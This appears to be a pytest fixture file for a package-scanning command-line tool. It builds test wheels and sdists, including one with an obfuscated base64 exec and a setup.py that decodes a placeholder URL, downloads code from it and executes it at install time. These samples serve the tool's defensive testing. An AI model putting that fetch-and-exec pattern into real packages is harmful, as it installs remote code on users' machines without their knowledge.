"""Runs the command line in this process, and makes small packages for it."""

from __future__ import annotations

import io
import tarfile
import zipfile
from dataclasses import dataclass

import pytest

from pratique.cli import main

CLEAR = {"acme/__init__.py": b"def slug(text):\n    return text.lower()\n"}
LOOK = {"acme/__init__.py": b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n"}
BLOCK = {
    "setup.py": (
        b"import base64, urllib.request\nfrom setuptools import setup\n"
        b"place = base64.b64decode('aHR0cHM6Ly9maWxlcy5hY21lLmludmFsaWQvYQ==').decode()\n"
        b"exec(urllib.request.urlopen(place).read())\nsetup(name='acme', version='1.0')\n"
    )
}


@dataclass(frozen=True, slots=True)
class Said:
    """What a run of the command line did."""

    code: int
    out: str
    err: str


@pytest.fixture(autouse=True)
def _no_cache(monkeypatch):
    monkeypatch.setenv("PRATIQUE_CACHE", "off")


@pytest.fixture
def run(capsys):
    """Run the command line."""

    def call(*words: object) -> Said:
        code = main([str(word) for word in words])
        captured = capsys.readouterr()
        return Said(code, captured.out, captured.err)

    return call


@pytest.fixture
def wheel(tmp_path):
    """Write a wheel of the given files."""

    def make(files: dict[str, bytes], name: str = "acme-1.0-py3-none-any.whl"):
        path = tmp_path / name
        with zipfile.ZipFile(path, "w") as archive:
            for member, data in files.items():
                archive.writestr(member, data)
            archive.writestr("acme-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n")
            archive.writestr("acme-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        return path

    return make


@pytest.fixture
def sdist(tmp_path):
    """Write an sdist of the given files."""

    def make(files: dict[str, bytes], name: str = "acme-1.0.tar.gz"):
        path = tmp_path / name
        with tarfile.open(path, "w:gz") as archive:
            for member, data in files.items():
                entry = tarfile.TarInfo(f"acme-1.0/{member}")
                entry.size = len(data)
                archive.addfile(entry, io.BytesIO(data))
        return path

    return make


@pytest.fixture
def clear(wheel):
    return wheel(CLEAR)


@pytest.fixture
def look(wheel):
    return wheel(LOOK)


@pytest.fixture
def block(sdist):
    return sdist(BLOCK)
